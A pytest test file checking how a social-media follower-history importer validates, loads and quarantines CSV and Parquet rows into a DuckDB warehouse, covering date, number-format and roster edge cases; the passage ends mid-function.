from __future__ import annotations

import contextlib
import csv
import json
import logging
import os
import time
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from social_leadership import follower_imports
from social_leadership.cli import main as cli_main
from social_leadership.follower_imports import HistoryFileError, import_folder, import_history
from social_leadership.roster import Account, Executive, Roster
from social_leadership.warehouse import ensure_schema

TODAY = date(2026, 3, 2)
ROSTER = Roster(
    executives=[
        Executive("satya", "S", "CEO", "Microsoft", "US", "Information Technology", False),
        Executive("joe", "J", "Chair", "Siemens Energy", "DE", "Industrials", False),
    ],
    accounts=[
        Account("satya", "linkedin", "satyanadella"),
        Account("joe", "x", "JoeKaeser"),
        Account("joe", "bluesky", "joe.bsky.social"),
    ],
)
GOOD_AND_BAD = """executive_id,account_handle,platform,date,followers,following,posts
satya,,linkedin,2026-01-01,11000000,,
,joekaeser,X,2026-01-01,64000,250,4100
,joekaeser,x,2026-01-02,64010,,
nobody,,x,2026-01-03,1,,
,joekaeser,myspace,2026-01-03,1,,
,joekaeser,x,01/03/2026,1,,
,joekaeser,x,2026-01-04,-5,,
,joekaeser,x,2026-12-31,5,,
,joekaeser,x,2026-01-05,5,many,
,,x,2026-01-05,5,,
"""


@pytest.fixture
def con(tmp_path: Path) -> duckdb.DuckDBPyConnection:
    connection = duckdb.connect(str(tmp_path / "w.duckdb"))
    ensure_schema(connection)
    return connection


def write_csv(tmp_path: Path, text: str, name: str = "history.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def imported(con: duckdb.DuckDBPyConnection) -> list[tuple[object, ...]]:
    return con.execute(
        """
        select platform, account_handle, snapshot_date, followers, following, posts
        from raw.imported_metrics order by platform, snapshot_date
        """
    ).fetchall()


def test_an_executive_not_on_the_roster_is_told_from_one_without_that_platform(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # Both read "has no x account in the roster": as if an account were all that was missing.
    path = write_csv(
        tmp_path,
        "executive_id,platform,date,followers\nzed-nobody,x,2026-01-03,1\nsatya,x,2026-01-03,1\n",
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "quarantine", today=TODAY)

    assert [(e.row, e.column, e.reason) for e in outcome.errors] == [
        (
            2,
            "executive_id",
            "executive 'zed-nobody' has no account of any platform in the roster (not on it, "
            "or on it without accounts)",
        ),
        (3, "executive_id", "executive 'satya' has no x account in the roster"),
    ]


def test_valid_rows_load_marked_as_import_and_bad_rows_are_named(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    path = write_csv(tmp_path, GOOD_AND_BAD)

    outcome = import_history(con, path, ROSTER, tmp_path / "quarantine", today=TODAY)

    assert imported(con) == [
        ("linkedin", "satyanadella", date(2026, 1, 1), 11_000_000, None, None),
        ("x", "JoeKaeser", date(2026, 1, 1), 64_000, 250, 4_100),
        ("x", "JoeKaeser", date(2026, 1, 2), 64_010, None, None),
    ]
    assert con.execute(
        "select file_name, rows_read, rows_loaded, rows_rejected, is_synthetic "
        "from raw.history_imports"
    ).fetchall() == [(str(path.resolve()), 10, 3, 7, False)]
    assert (outcome.rows_read, outcome.rows_loaded, outcome.rows_rejected) == (10, 3, 7)
    assert [(e.row, e.column) for e in outcome.errors] == [
        (5, "executive_id"),
        (6, "platform"),
        (7, "date"),
        (8, "followers"),
        (9, "date"),
        (10, "following"),
        (11, "account_handle"),
    ]
    assert all(e.file == str(path.resolve()) for e in outcome.errors)
    assert "'nobody' has no account of any platform in the roster" in outcome.errors[0].reason
    assert outcome.quarantine_path is not None
    quarantine = Path(outcome.quarantine_path)
    report = json.loads((quarantine / "report.json").read_text())
    assert report["rows_rejected"] == 7
    assert report["errors"][1] == {
        "row": 6,
        "field": "platform",
        "message": "'myspace' is not a known platform (one of x, bluesky, mastodon, youtube, "
        "facebook, instagram, linkedin, threads)",
    }
    assert len((quarantine / "rejected_rows.csv").read_text().splitlines()) == 8


@pytest.mark.parametrize(
    ("row", "said"),
    [
        (
            'JoeKaeser,x,2026-01-01,"12,345"',
            "followers: '12,345' is a count with a thousands separator, which is not read in "
            "a UTF-8 file separated by ',': write it without (format the column as a whole "
            "number, 0)",
        ),
        (
            "JoeKaeser,Twitter,2026-01-01,5",
            "platform: 'Twitter' is not a known platform (one of x, bluesky, mastodon, "
            "youtube, facebook, instagram, linkedin, threads; Twitter is x)",
        ),
        (
            "account_handle,platform,date,followers",
            "platform: is 'platform': the header line again (a second file pasted below?)",
        ),
    ],
    ids=["comma-grouped", "twitter", "header-again"],
)
def test_a_rejected_row_says_what_its_value_looks_like(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, row: str, said: str
) -> None:
    path = write_csv(tmp_path, f"account_handle,platform,date,followers\n{row}\n")

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert [f"{error.column}: {error.reason}" for error in outcome.errors] == [said]


def test_reimport_replaces_instead_of_duplicating_and_keeps_api_rows(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    con.execute(
        """
        insert into raw.platform_metrics values ('x', '2026-01-02', 'JoeKaeser', '1', 'ok',
            63999, 1, 1, '2026-01-02 06:00:00+00', 'api', null, now(), false)
        """
    )
    path = write_csv(tmp_path, GOOD_AND_BAD)
    import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)
    corrected = write_csv(
        tmp_path,
        "account_handle,platform,snapshot_date,followers\nJoeKaeser,x,2026-01-02,64020\n",
        "corrected.csv",
    )

    import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)
    import_history(con, corrected, ROSTER, tmp_path / "q", today=TODAY)

    imported_jan_2 = con.execute(
        "select followers from raw.imported_metrics where snapshot_date = '2026-01-02'"
    ).fetchall()
    assert imported_jan_2 == [(64020,)]
    assert con.execute("select count(*) from raw.imported_metrics").fetchone() == (3,)
    api_rows = con.execute("select source, followers from raw.platform_metrics").fetchall()
    assert api_rows == [("api", 63999)]


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_headers_in_other_spellings_and_api_field_names_name_their_columns(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, suffix: str
) -> None:
    header = ["Account Handle", "Platform", "Snapshot Date", "Followers Count", "friends_count"]
    header += ["statuses_count"]
    rows = [["JoeKaeser", "x", "2026-01-02", "64020", "250", "4100"]]
    path = tmp_path / f"export{suffix}"
    if suffix == ".parquet":
        pq.write_table(
            pa.table(dict(zip(header, map(list, zip(*rows, strict=True)), strict=True))), path
        )
    else:
        path.write_text("\n".join(",".join(row) for row in [header, *rows]) + "\n")

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert outcome.errors == []
    assert imported(con) == [("x", "JoeKaeser", date(2026, 1, 2), 64020, 250, 4100)]


def test_days_written_with_slashes_are_refused_whatever_order_the_file_suggests(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # DuckDB's reader took the order from the rows: 07/01/2025 .. 07/03/2025 became
    # January 7th to March 7th, and monthly US rows 01/01 .. 06/01 six days of January.
    path = write_csv(
        tmp_path,
        "account_handle,platform,date,followers\n"
        "JoeKaeser,x,07/01/2025,1\nJoeKaeser,x,07/02/2025,2\nJoeKaeser,x,07/03/2025,3\n",
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert (outcome.rows_loaded, outcome.rows_rejected) == (0, 3)
    assert {(e.column, e.reason.split(" is ")[1]) for e in outcome.errors} == {
        ("date", "not a date (YYYY-MM-DD or YYYY/MM/DD, a time after it allowed, or DD.MM.YYYY)")
    }
    assert imported(con) == []


def test_a_row_with_more_values_than_the_header_is_rejected_not_shifted(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # An unquoted 64,000: read, followers were 64, following 0, posts 250.
    path = write_csv(
        tmp_path,
        "account_handle,platform,date,followers,following,posts\n"
        "JoeKaeser,x,2026-01-01,64,000,250,4100\n"
        "JoeKaeser,x,2026-01-02,64010,250,4101\n",
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    (error,) = outcome.errors
    assert (error.row, error.column) == (2, "row")
    assert error.reason.startswith("has more values than the header has columns ('4100'")
    assert imported(con) == [("x", "JoeKaeser", date(2026, 1, 2), 64010, 250, 4101)]


def test_a_value_split_into_a_spreadsheets_trailing_empty_column_is_rejected(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # Excel ends the header with a comma: the split 64,000 sat in that empty column.
    path = write_csv(
        tmp_path,
        "platform,date,account_handle,followers,\n"
        "x,2026-01-01,JoeKaeser,64,000\n"
        "x,2026-01-02,JoeKaeser,64010,\n"
        "x,2026-01-03,JoeKaeser,64020, \n",
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert [(e.row, e.column) for e in outcome.errors] == [(2, "row")]
    assert [row[2:4] for row in imported(con)] == [
        (date(2026, 1, 2), 64010),
        (date(2026, 1, 3), 64020),
    ]


def test_a_wide_row_past_what_the_reader_samples_refuses_the_file_naming_its_line(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # DuckDB sniffs its columns from the first rows: a wider row far down was its error.
    rows = [f"JoeKaeser,x,{date(2000, 1, 1) + timedelta(days=n)},{n}" for n in range(30_000)]
    path = write_csv(
        tmp_path,
        "account_handle,platform,date,followers\n"
        + "\n".join([*rows, "JoeKaeser,x,2026-01-01,64,000"])
        + "\n",
    )

    with pytest.raises(HistoryFileError) as raised:
        import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert raised.value.reason.startswith(
        "cannot be read as CSV: the row on line 30002 has more values than the header"
    )
    assert imported(con) == []


def test_a_german_day_in_a_utf8_file_loads_and_names_read_specific_columns_first(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # Account is a display name beside Username, the handle.
    path = write_csv(
        tmp_path,
        "Account,Username,platform,date,followers\nJoe Kaeser,JoeKaeser,x,30.12.2025,7\n",
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert outcome.errors == []
    assert [row[1:4] for row in imported(con)] == [("JoeKaeser", date(2025, 12, 30), 7)]


def test_an_executive_id_the_handle_contradicts_rejects_its_row(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path,
        "executive_id,account_handle,platform,date,followers\n"
        "satya,JoeKaeser,x,2026-01-01,1\n"
        "nobody,JoeKaeser,x,2026-01-02,2\n"
        "joe,JoeKaeser,x,2026-01-03,3\n"
        "JOE,JoeKaeser,x,2026-01-04,4\n",
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert [(e.row, e.column, e.reason) for e in outcome.errors] == [
        (2, "executive_id", "account 'JoeKaeser' is joe's in the roster, not 'satya'"),
        (3, "executive_id", "account 'JoeKaeser' is joe's in the roster, not 'nobody'"),
    ]
    # The same executive in another case agrees.
    assert [row[2:4] for row in imported(con)] == [(date(2026, 1, 3), 3), (date(2026, 1, 4), 4)]


def test_rows_of_empty_cells_below_the_table_are_no_rows(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path, "account_handle,platform,date,followers\nJoeKaeser,x,2026-01-01,7\n,,,\n,,,\n"
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert (outcome.rows_read, outcome.rows_loaded, outcome.errors) == (1, 1, [])


def test_a_timestamp_with_a_time_zone_is_its_utc_day_whatever_the_session_zone(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # pandas writes time-zone-aware timestamps to Parquet as instants: read in New York's
    # zone, midnight UTC on 2 January was 1 January.
    path = tmp_path / "history.parquet"
    stamps = pa.array(
        [datetime(2026, 1, 2, tzinfo=UTC), datetime(2026, 1, 2, 23, 30, tzinfo=UTC)],
        pa.timestamp("us", tz="UTC"),
    )
    table = pa.table(
        {"account_handle": ["JoeKaeser"] * 2, "platform": ["x"] * 2, "date": stamps,
         "followers": [1, 2]}
    )  # fmt: skip
    pq.write_table(table, path)
    con.execute("set TimeZone = 'America/New_York'")

    import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert {row[2] for row in imported(con)} == {date(2026, 1, 2)}
    assert con.execute("select current_setting('TimeZone')").fetchone() == ("America/New_York",)


@pytest.mark.parametrize(
    ("followers", "refused"),
    [(16_777_216.0, False), (123_456_789.0, True)],
    ids=["exact", "rounded"],
)
def test_a_32_bit_float_count_it_cannot_hold_exactly_refuses_the_file(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, followers: float, refused: bool
) -> None:
    # 123456789 written as a float32 (Spark's FloatType, Polars' Float32) is 123456792 in the
    # file; it loaded as 123456790, a number in neither.
    path = tmp_path / "history.parquet"
    table = pa.table(
        {"account_handle": ["JoeKaeser"], "platform": ["x"], "date": [date(2026, 1, 2)],
         "followers": pa.array([followers], pa.float32())}
    )  # fmt: skip
    pq.write_table(table, path)

    if not refused:
        import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)
        assert [row[3] for row in imported(con)] == [16_777_216]
        return
    with pytest.raises(HistoryFileError) as raised:
        import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)
    assert raised.value.reason == (
        "column 'followers' is a 32-bit float, which holds a count above 16,777,216 only "
        "rounded (its largest reads 123,456,792): write the counts as integers"
    )
    assert imported(con) == []


def test_a_16_bit_float_count_above_2048_refuses_the_file(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # 3001 in 16 bits is 3000: loaded so, without a word.
    path = tmp_path / "history.parquet"
    table = pa.table(
        {"account_handle": ["JoeKaeser"], "platform": ["x"], "date": [date(2026, 1, 2)],
         "followers": pa.array([3001], pa.float16())}
    )  # fmt: skip
    pq.write_table(table, path)

    with pytest.raises(HistoryFileError) as raised:
        import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert raised.value.reason == (
        "column 'followers' is a 16-bit float, which holds a count above 2,048 only rounded "
        "(its largest reads 3,000): write the counts as integers"
    )


def test_parquet_import_counts_rows_from_one(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    path = tmp_path / "history.parquet"
    pq.write_table(
        pa.table(
            {
                "executive_id": ["joe", "joe"],
                "platform": ["bluesky", "bluesky"],
                "date": [date(2026, 2, 1), date(2026, 2, 2)],
                "followers": [120, -1],
            }
        ),
        path,
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert outcome.rows_loaded == 1
    assert [(e.row, e.column) for e in outcome.errors] == [(2, "followers")]
    assert imported(con)[0][:4] == ("bluesky", "joe.bsky.social", date(2026, 2, 1), 120)


@pytest.mark.parametrize(
    ("name", "text", "fragment"),
    [
        ("h.csv", "platform,date,followers\nx,2026-01-01,1\n", "executive_id or account_handle"),
        ("h.csv", "account_handle,platform,date\nJoeKaeser,x,2026-01-01\n", "followers"),
        # A workbook is named as such, with what to save it as (the inbox said so; the
        # command line said "unsupported file type").
        ("h.json", "whatever", r"is no history file \(\.json\): save it as CSV UTF-8"),
        ("h.xlsx", "PK", r"is no history file \(\.xlsx\): save it as CSV UTF-8"),
        ("h.parquet", "not parquet", "not a readable Parquet file"),
    ],
)
def test_unreadable_files_raise_naming_the_file(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, name: str, text: str, fragment: str
) -> None:
    path = write_csv(tmp_path, text, name)

    with pytest.raises(HistoryFileError, match=fragment) as raised:
        import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)
    assert name in str(raised.value)


def test_drop_folder_files_are_imported_and_moved(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    inbox = tmp_path / "history"
    inbox.mkdir()
    write_csv(inbox, "account_handle,platform,date,followers\nJoeKaeser,x,2026-01-01,7\n", "a.csv")
    write_csv(inbox, "nonsense\n", "b.csv")

    outcomes = import_folder(con, inbox, ROSTER, tmp_path / "q")

    assert [o.rows_loaded for o in outcomes] == [1, 0]
    assert [p.name.endswith("-a.csv") for p in (inbox / "imported").iterdir()] == [True]
    [kept] = (tmp_path / "q" / "history").iterdir()
    assert kept.name.endswith("-b.csv")
    assert sorted(p.name for p in kept.iterdir()) == ["b.csv", "report.json"]
    assert sorted(p.name for p in inbox.iterdir()) == ["imported"]
    # The import names the file where it is kept (it named the inbox, where it no longer is).
    [(recorded,)] = con.execute("select file_name from raw.history_imports").fetchall()
    assert recorded == str(
        (inbox / "imported").resolve() / next(p.name for p in (inbox / "imported").iterdir())
    )
    assert Path(recorded).is_file()


def test_the_newest_of_two_exports_in_the_inbox_wins_whatever_their_names(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    # A browser's re-download, "export (1).csv", sorts before "export.csv": imported in
    # name order, the older file came last and its counts replaced the newer's.
    inbox = tmp_path / "history"
    inbox.mkdir()
    header = "account_handle,platform,date,followers\n"
    older = write_csv(inbox, header + "JoeKaeser,x,2026-01-01,500\n", "export.csv")
    newer = write_csv(inbox, header + "JoeKaeser,x,2026-01-01,600\n", "export (1).csv")
    os.utime(older, (time.time() - 3_600, time.time() - 3_600))
    os.utime(newer, (time.time() - 60, time.time() - 60))
    # A folder dropped in is not looked into: said, not left there unsaid.
    (inbox / "linkedin exports").mkdir()
    (inbox / "demo").mkdir()

    with caplog.at_level(logging.WARNING, logger="social_leadership.follower_imports"):
        outcomes = import_folder(con, inbox, ROSTER, tmp_path / "q")

    assert [Path(o.file).name for o in outcomes] == ["export.csv", "export (1).csv"]
    (followers,) = con.execute(
        "select followers from raw.imported_metrics where import_id = "
        "(select max(import_id) from raw.imported_metrics)"
    ).fetchone()
    assert followers == 600
    folders = [r.getMessage() for r in caplog.records if "is a folder" in r.getMessage()]
    assert len(folders) == 1
    assert "linkedin exports is a folder, not looked into: move its files into" in folders[0]


def test_a_file_still_being_written_is_left_in_the_inbox_until_it_settles(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, logger="social_leadership.progress")
    # Read while a writer still had it open, the file was imported cut short (a count of
    # "54" for "5410"), then moved to imported/: the rest of it never came in.
    inbox = tmp_path / "history"
    inbox.mkdir()
    header = "account_handle,platform,date,followers\n"
    old = write_csv(inbox, header + "JoeKaeser,x,2026-01-01,7\n", "old.csv")
    os.utime(old, (time.time() - 120, time.time() - 120))
    writing = write_csv(inbox, header + "JoeKaeser,x,2026-01-02,54", "writing.csv")

    outcomes = import_folder(con, inbox, ROSTER, tmp_path / "q", settle_seconds=30)

    assert [o.rows_loaded for o in outcomes] == [1]
    assert sorted(p.name for p in inbox.iterdir()) == ["imported", "writing.csv"]
    waiting = "changed just now, less than SLW_INTAKE_SETTLE_SECONDS=30 s ago"
    assert f"{writing} {waiting}" in caplog.text
    # Once the writer is done and the file left alone, the next run imports it whole.
    writing.write_text(header + "JoeKaeser,x,2026-01-02,5410\n", encoding="utf-8")
    os.utime(writing, (time.time() - 31, time.time() - 31))
    assert [o.rows_loaded for o in import_folder(con, inbox, ROSTER, tmp_path / "q")] == [1]
    assert con.execute(
        "select followers from raw.imported_metrics where snapshot_date = '2026-01-02'"
    ).fetchall() == [(5410,)]


def test_files_of_another_kind_in_the_inbox_are_quarantined_saying_what_to_save(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # Left in the inbox, a workbook or a gzipped CSV waited there for good, said nowhere.
    inbox = tmp_path / "history"
    inbox.mkdir()
    (inbox / "history.xlsx").write_bytes(b"PK\x03\x04")
    (inbox / "history.csv.gz").write_bytes(b"\x1f\x8b")
    # Not dropped to import: a lock file of a workbook open in Excel, a partial upload, a
    # Mac's folder settings. They stay where they are.
    left = ["~$history.xlsx", "big.csv.part", ".DS_Store"]
    for name in left:
        (inbox / name).write_bytes(b"x")

    outcomes = import_folder(con, inbox, ROSTER, tmp_path / "q")

    assert sorted((o.file.rsplit("/", 1)[-1], o.refused) for o in outcomes) == [
        ("history.csv.gz", True),
        ("history.xlsx", True),
    ]
    xlsx = next(o for o in outcomes if o.file.endswith(".xlsx"))
    assert xlsx.errors[0].reason == (
        "is no history file (.xlsx): save it as CSV UTF-8 (.csv), tab-separated text (.txt, "
        ".tsv) or Parquet (.parquet) and drop that into the inbox"
    )
    assert sorted(p.name for p in inbox.iterdir()) == sorted(left)


def test_excels_unicode_text_saved_as_txt_loads(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    path = tmp_path / "history.txt"
    text = "account_handle\tplatform\tdate\tfollowers\r\nJoeKaeser\tx\t30.06.2025\t64.000\r\n"
    path.write_bytes(text.encode("utf-16"))

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert (outcome.rows_loaded, outcome.errors) == (1, [])
    assert imported(con) == [("x", "JoeKaeser", date(2025, 6, 30), 64000, None, None)]


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_spaces_around_header_cells_do_not_matter(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, delimiter: str
) -> None:
    # DuckDB's reader names the column without them: matched as written, the column was
    # not found and the file could not be read at all.
    text = "account_handle, platform ,\u00a0date, followers\nJoeKaeser,x,2026-01-01,7\n"
    path = write_csv(tmp_path, text.replace(",", delimiter))

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert (outcome.rows_loaded, outcome.errors) == (1, [])


def test_a_count_with_two_kinds_of_separator_is_a_fraction_and_refused(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # Every separator was dropped: 1.234,567 loaded as 1234567.
    path = write_csv(
        tmp_path,
        "account_handle;platform;date;followers\n"
        "JoeKaeser;x;2026-01-01;1.234,567\n"
        "JoeKaeser;x;2026-01-02;1,234.567\n"
        "JoeKaeser;x;2026-01-03;1 234,500\n"
        "JoeKaeser;x;2026-01-04;1.234,00\n"
        "JoeKaeser;x;2026-01-05;1\u202f234\n",
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert [(e.row, e.column) for e in outcome.errors] == [
        (2, "followers"),
        (3, "followers"),
        (4, "followers"),
    ]
    assert [row[3] for row in imported(con)] == [1234, 1234]


@pytest.mark.parametrize(
    "day", ["2025-11-27", "27.11.2025"], ids=["ISO days: the typed pass", "German days"]
)
def test_a_count_that_may_hold_a_thousands_separator_in_a_programs_csv_is_refused(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, day: str
) -> None:
    # A German locale's sheet saved as CSV UTF-8: 64.000 loaded as 64, where 64.120 was
    # refused, so the user mended that row and the wrong one stayed.
    path = write_csv(
        tmp_path,
        "account_handle,platform,date,followers,following\n"
        f"JoeKaeser,x,{day},64.000,250\n"
        f"satyanadella,linkedin,{day},250.0,1\n",
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    [error] = outcome.errors
    assert (error.row, error.column) == (2, "followers")
    assert error.reason == (
        "'64.000' is a count with three decimals, or one with a thousands separator (a "
        "program's CSV reads 64.000 as 64, German Excel as 64000): write it without separators"
    )
    # A pandas float of a column with gaps is the whole number it holds.
    assert [row[:4] for row in imported(con)] == [
        ("linkedin", "satyanadella", date(2025, 11, 27), 250)
    ]


@pytest.mark.parametrize(
    "day", ["2025-11-27", "27.11.2025"], ids=["ISO days: the typed pass", "German days"]
)
@pytest.mark.parametrize("count", ["2.50412E+08", "2,50412E+08", "1e3"])
def test_a_count_in_scientific_notation_is_refused_as_rounded(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, day: str, count: str
) -> None:
    # A spreadsheet shows a large count as 2.50412E+08 and saves it so: 250412000 was
    # loaded for 250,412,345 followers.
    path = write_csv(
        tmp_path,
        "account_handle,platform,date,followers,following\n"
        f'JoeKaeser,x,{day},"{count}",250\n'
        f"satyanadella,linkedin,{day},250,1\n",
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    [error] = outcome.errors
    assert (error.row, error.column) == (2, "followers")
    assert error.reason == (
        f"'{count}' is a count in scientific notation, which a spreadsheet rounds: format "
        "the column as a whole number (0) and save the file again"
    )
    assert [row[:4] for row in imported(con)] == [
        ("linkedin", "satyanadella", date(2025, 11, 27), 250)
    ]


def test_a_programs_csv_with_empty_optional_counts_takes_the_typed_pass(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # An empty column is sniffed as text, not as numbers with decimals: such a file (a
    # LinkedIn export without following or posts) went down the checking path.
    from social_leadership import follower_imports

    text_reads = []
    diagnose = follower_imports._diagnose
    monkeypatch.setattr(
        follower_imports,
        "_diagnose",
        lambda *args: text_reads.append(args) or diagnose(*args),
    )
    path = write_csv(
        tmp_path,
        "account_handle,platform,date,followers,following,posts\n"
        + "".join(f"JoeKaeser,x,2026-01-{day:02d},{day},,\n" for day in range(1, 29)),
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert (outcome.rows_loaded, outcome.errors, text_reads) == (28, [], [])


@pytest.mark.parametrize("day", ["25-11-27", "27.11.0025", "1999-12-31"])
def test_a_day_before_any_platform_counted_is_refused(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, day: str
) -> None:
    # A year of two digits loaded as the year 25.
    path = write_csv(tmp_path, f"account_handle,platform,date,followers\nJoeKaeser,x,{day},7\n")

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    [error] = outcome.errors
    assert (error.row, error.column) == (2, "date")
    assert error.reason == (
        f"{day} is before 2000-01-01, before any platform counted (a year of two digits?): "
        "write YYYY-MM-DD"
    )
    assert imported(con) == []


def test_an_executive_id_in_another_case_is_the_executive(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # Roster ids are lower case: "Joe" was "no x account in the roster", though the handle
    # check of the same row ignores case.
    path = write_csv(tmp_path, "executive_id,platform,date,followers\nJoe,x,2026-01-01,7\n")

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert (outcome.rows_loaded, outcome.errors) == (1, [])
    assert imported(con) == [("x", "JoeKaeser", date(2026, 1, 1), 7, None, None)]


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_an_optional_count_marked_not_known_is_none_and_the_row_loads(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, delimiter: str
) -> None:
    # The whole row was rejected for its posts' "n/a".
    text = (
        "account_handle,platform,date,followers,following,posts\n"
        "JoeKaeser,x,2026-01-01,7,n/a,-\n"
        "JoeKaeser,x,2026-01-02,8,#N/A,\u2013\n"
        "JoeKaeser,x,2026-01-03,n/a,1,2\n"
    )
    path = write_csv(tmp_path, text.replace(",", delimiter))

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert [(e.row, e.column) for e in outcome.errors] == [(4, "followers")]
    assert [row[3:] for row in imported(con)] == [(7, None, None), (8, None, None)]


def test_a_german_day_with_its_time_is_the_day(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # German Excel writes a date cell holding a time so; the roster's valid_from took it.
    path = write_csv(
        tmp_path,
        "account_handle;platform;date;followers\n"
        "JoeKaeser;x;27.11.2025 00:00;7\n"
        "JoeKaeser;x;28.11.2025 13:45:10;8\n",
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert outcome.errors == []
    assert [row[2] for row in imported(con)] == [date(2025, 11, 27), date(2025, 11, 28)]


def test_a_reimport_after_the_roster_changed_a_handles_case_replaces_the_day(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    text = "account_handle,platform,date,followers\nJoeKaeser,x,2026-01-01,7\n"
    lower = Roster(
        executives=ROSTER.executives,
        accounts=[Account("joe", "x", "joekaeser")],
    )
    import_history(con, write_csv(tmp_path, text), lower, tmp_path / "q", today=TODAY)
    upper = Roster(executives=ROSTER.executives, accounts=[Account("joe", "x", "JoeKaeser")])

    import_history(con, write_csv(tmp_path, text), upper, tmp_path / "q", today=TODAY)

    # The day held both spellings: its count twice.
    assert imported(con) == [("x", "JoeKaeser", date(2026, 1, 1), 7, None, None)]


def test_cli_imports_and_reports(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text(
        "executive_id,full_name,title,company,country,sector,is_synthetic,x\n"
        "joe,J,Chair,Siemens Energy,DE,Industrials,false,JoeKaeser\n",
        encoding="utf-8",
    )
    monkeypatch.setenv("SLW_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("SLW_ROSTER_PATH", str(roster))
    path = write_csv(
        tmp_path, "executive_id,platform,date,followers\njoe,x,2026-01-01,7\njoe,x,bad,1\n"
    )

    assert cli_main(["import-history", str(path)]) == 1

    out = capsys.readouterr()
    assert "1 row loaded, 1 rejected" in out.out
    assert ":3: date:" in out.err

    # Many rejected rows: the first 20 by name, then how many more and where all are.
    path.write_text(
        "executive_id,platform,date,followers\n"
        + "".join(f"joe,x,01/{n % 28 + 1:02d}/2025,{n}\n" for n in range(100)),
        encoding="utf-8",
    )
    assert cli_main(["import-history", str(path)]) == 1
    err = capsys.readouterr().err.splitlines()
    assert len([line for line in err if line.startswith("rejected ")]) == 20
    assert err[-1].startswith("... and 80 more rejected rows (every one in ")
    warehouse = tmp_path / "data" / "warehouse" / "warehouse.duckdb"
    with duckdb.connect(str(warehouse), read_only=True) as check:
        assert check.execute("select followers from raw.imported_metrics").fetchall() == [(7,)]


def test_fast_pass_and_diagnosis_agree_on_padded_values_and_short_lines(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    clean = write_csv(
        tmp_path,
